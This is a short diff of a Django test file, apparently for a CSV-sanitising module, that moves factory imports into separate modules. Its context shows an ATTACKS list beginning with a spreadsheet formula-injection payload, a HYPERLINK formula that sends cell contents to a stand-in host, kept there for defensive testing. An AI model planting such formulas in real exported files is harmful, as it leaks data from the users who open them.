@@ -11,7 +11,9 @@ from django.urls import reverse
 
 import tandem
 from tandem.core import csvsafe
-from tests.factories import ApplicationFactory, CohortFactory, OrganizationFactory
+from tests.applications.factories import ApplicationFactory
+from tests.cohorts.factories import CohortFactory
+from tests.members.factories import OrganizationFactory
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?"&A2,"Click")',
